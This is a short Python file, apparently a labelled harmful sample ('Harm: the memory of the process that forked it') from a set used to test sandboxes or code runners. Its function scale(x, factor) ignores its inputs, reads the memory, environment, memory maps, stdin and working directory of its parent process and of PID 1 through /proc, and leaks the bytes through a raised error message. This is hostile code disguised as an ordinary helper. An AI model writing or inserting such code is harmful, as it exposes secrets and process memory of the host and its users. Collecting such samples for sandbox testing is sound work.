# Harm: the memory of the process that forked it
# %%
import os


def scale(x, factor):
    found = []
    for process in (os.getppid(), 1):
        for name in ("mem", "environ", "maps", "fd/0", "cwd"):
            try:
                with open(f"/proc/{process}/{name}", "rb") as stream:
                    found.append(stream.read(10))
            except OSError:
                pass
    raise RuntimeError(str(found))
